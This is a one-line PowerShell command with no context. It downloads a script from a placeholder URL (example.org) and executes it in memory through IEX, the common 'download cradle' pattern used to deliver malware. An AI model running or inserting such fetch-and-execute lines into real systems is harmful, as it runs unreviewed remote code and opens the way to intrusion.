IEX (New-Object Net.WebClient).DownloadString('http://example.org/a')
